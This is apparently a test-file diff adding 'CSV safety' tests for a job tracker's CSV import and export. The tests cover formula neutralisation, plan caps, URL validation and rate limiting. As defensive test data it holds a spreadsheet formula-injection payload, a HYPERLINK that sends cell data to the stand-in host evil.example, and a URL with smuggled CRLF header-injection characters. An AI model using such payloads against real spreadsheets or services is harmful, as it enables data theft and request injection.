@@ -297,3 +297,72 @@ describe('imported jobs and companies', () => {
     expect(own.statusCode).toBe(200);
   });
 });
+
+describe('CSV safety', () => {
+  const importAs = (cookie: string, csv: string) =>
+    t.app.inject({
+      method: 'POST',
+      url: '/api/post/import-tracked-jobs',
+      headers: { cookie, origin: TEST_ORIGIN, 'content-type': 'text/csv' },
+      payload: csv,
+    });
+
+  it('exports a formula-like note inert, and imports it back exactly', async () => {
+    const owner = await createSignedInUser(t.deps);
+    const job = await createJob(t.deps.db, { company: await createCompany(t.deps.db), title: 'Formula Job' });
+    const formula = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click")';
+    await post(owner.cookie, '/api/post/update-job-status', { job_id: job.id, job_status: 'Cold Applied' });
+    await post(owner.cookie, '/api/post/add-job-notes', { job_id: job.id, note: formula });
+    await post(owner.cookie, '/api/post/add-job-notes', { job_id: job.id, note: '@SUM(1+1)' });
+    const exported = (await get(owner.cookie, '/api/get/tracked-jobs-export.csv')).body;
+    // Every cell that a spreadsheet would evaluate starts with a quote mark.
+    const cells = exported.split(/[\n,]/).map((c) => c.replace(/^"/, ''));
+    expect(cells.filter((c) => /^[=+@]/.test(c))).toEqual([]);
+    expect(exported).toContain(`"'=HYPERLINK(`);
+
+    const fresh = await createSignedInUser(t.deps);
+    expect((await importAs(fresh.cookie, exported)).statusCode).toBe(200);
+    const notes = (await post(fresh.cookie, '/api/post/fetch-all-job-notes', { job_id: job.id })).json()
+      .job_notes[0] as { note: string }[];
+    expect(notes.map((n) => n.note)).toEqual(expect.arrayContaining([formula, '@SUM(1+1)']));
+  });
+
+  it('counts every imported row toward the plan cap, bare rows included', async () => {
+    const member = await createSignedInUser(t.deps); // free: 100 tracked and noted jobs
+    const rows = (from: number, n: number) =>
+      Array.from({ length: n }, (_, i) => `Bare Co ${from + i},Role ${from + i},`).join('\n');
+    const first = (await importAs(member.cookie, `Company,Title,Stage\n${rows(0, 150)}`)).json();
+    expect(first.imported_jobs).toBe(100);
+    expect(first.skipped).toHaveLength(50);
+    expect(first.skipped[0].reason).toMatch(/limit of 100 tracked and noted jobs/);
+    const again = (await importAs(member.cookie, `Company,Title,Stage\n${rows(500, 10)}`)).json();
+    expect(again.imported_jobs).toBe(0);
+    // And the cap holds for the buttons too.
+    const job = await createJob(t.deps.db, { company: await createCompany(t.deps.db) });
+    const status = await post(member.cookie, '/api/post/update-job-status', {
+      job_id: job.id,
+      job_status: 'Cold Applied',
+    });
+    expect(status.statusCode).toBe(403);
+  });
+
+  it('refuses an address with control characters', async () => {
+    const member = await createSignedInUser(t.deps);
+    const csv =
+      'Company,Title,Link,Stage\nAcme,Role,"https://acme.example/jobs/1\r\nX-Injected: yes",Applied\n';
+    const res = (await importAs(member.cookie, csv)).json();
+    expect(res.imported_jobs).toBe(0);
+    expect(res.skipped).toEqual([{ row: 2, reason: 'The url must start with http:// or https://.' }]);
+  });
+
+  it('limits how often a member imports, and says when to try again', async () => {
+    const member = await createSignedInUser(t.deps);
+    const csv = 'Company,Title,Stage\nRate Co,Role,\n';
+    for (let i = 0; i < 10; i++) expect((await importAs(member.cookie, csv)).statusCode).toBe(200);
+    const refused = await importAs(member.cookie, csv);
+    expect(refused.statusCode).toBe(429);
+    expect(refused.json().error.message).toMatch(
+      /^You can import 10 files an hour\. Please try again in \d+ minutes?\.$/,
+    );
+  });
+});
